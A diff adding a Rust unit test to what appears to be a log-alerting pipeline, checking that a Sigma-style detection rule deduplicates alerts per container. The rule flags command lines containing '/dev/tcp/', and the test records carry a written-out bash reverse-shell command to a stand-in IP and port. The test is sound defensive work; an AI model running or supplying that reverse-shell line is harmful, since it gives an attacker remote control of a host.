@@ -180,3 +180,34 @@ fn sigmahq_process_rules_fire_on_attacks_and_not_on_builds() {
         assert!(got.is_empty(), "{got:?} on a benign {line}");
     }
 }
+
+/// Dedup of a rule without `group_by` is per actor (container or host): one container's alert
+/// never suppresses another's, and the same container is not alerted twice within the window.
+#[test]
+fn dedup_is_per_container() {
+    use std::sync::Arc;
+
+    use ironpost_log_pipeline::rules::{Alerter, AlertingConfig, SystemClock};
+
+    let loaded = load_str(
+        "title: Rev\nid: rev-1\nlevel: critical\nlogsource: {category: process_creation, product: linux}\ndetection:\n    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n",
+        Some(Path::new("rev.yml")),
+    );
+    let set = RuleSet::compile(loaded.rules).expect("compiles");
+    let rule = set.rules()[0].clone();
+    let mut alerter = Alerter::in_memory(AlertingConfig::default(), Arc::new(SystemClock));
+    let now = chrono::Utc::now().timestamp_micros();
+    let rec = |id: Option<&str>| {
+        let container = id.map_or(String::new(), |id| format!(",\"container_id\":\"{id}\""));
+        let mut r = record(&format!(
+            r#"@process_creation {{"Image":"/bin/sh","CommandLine":"sh -c sh -i >& /dev/tcp/198.18.0.9/4444 0>&1"{container}}}"#
+        ));
+        r.timestamp_micros = now;
+        r
+    };
+    assert!(alerter.observe(&rule, &rec(Some("aaaa"))).is_some());
+    assert!(alerter.observe(&rule, &rec(Some("aaaa"))).is_none());
+    assert!(alerter.observe(&rule, &rec(Some("bbbb"))).is_some());
+    assert!(alerter.observe(&rule, &rec(None)).is_some());
+    assert!(alerter.observe(&rule, &rec(None)).is_none());
+}
